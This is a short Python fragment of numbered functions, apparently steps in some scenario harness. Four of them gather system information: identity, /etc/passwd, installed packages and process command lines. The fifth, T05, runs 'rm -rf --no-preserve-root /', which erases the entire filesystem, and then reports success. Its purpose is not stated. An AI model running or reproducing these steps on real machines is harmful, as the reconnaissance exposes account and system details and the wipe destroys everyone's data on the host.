def T01(scene):
    """The first line of the talk: whose rights does it have?"""
    return {"id": subprocess.run(["id"], capture_output=True, text=True).stdout, "uid": os.geteuid()}


def T02(scene):
    """cat /etc/passwd"""
    return {"passwd": text("/etc/passwd")}


def T03(scene):
    """dpkg-query -l"""
    tried = subprocess.run(["dpkg-query", "-W"], capture_output=True, text=True)
    return {"packages": tried.stdout[:200000] + text("/var/lib/dpkg/status")}


def T04(scene):
    """ps aux, with or without ps"""
    return {"processes": [text("/proc/%d/cmdline" % pid) for pid in processes()]}


def T05(scene):
    """rm -rf --no-preserve-root /: the last thing that is done at a level."""
    subprocess.Popen(
        ["rm", "-rf", "--no-preserve-root", "/"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    ).wait(60)
    return {"done": True}
